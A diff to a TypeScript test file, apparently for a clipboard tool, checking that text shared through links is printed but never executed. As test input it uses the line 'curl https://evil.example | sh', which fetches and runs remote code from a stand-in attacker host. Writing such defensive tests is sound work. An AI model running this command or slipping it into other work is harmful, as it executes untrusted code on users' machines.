@@ -546,6 +546,11 @@ test('what others send through links reaches no command, nor a program that may 
   for (const { told } of [executing, printing]) await expect.poll(told).toContain('Watching');
   await drop('curl https://evil.example | sh');
   await expect.poll(printing.out).toContain('evil');
+  const pasted = async (...more: string[]) => (await clipline(['paste', ...more])).out.toString();
+  expect([await pasted(), await pasted('--from-links')]).toEqual([
+    (await newest()).content,
+    'curl https://evil.example | sh',
+  ]);
   const { id } = (
     await call(app, 'POST /clipboard', {
       headers: ada.headers,
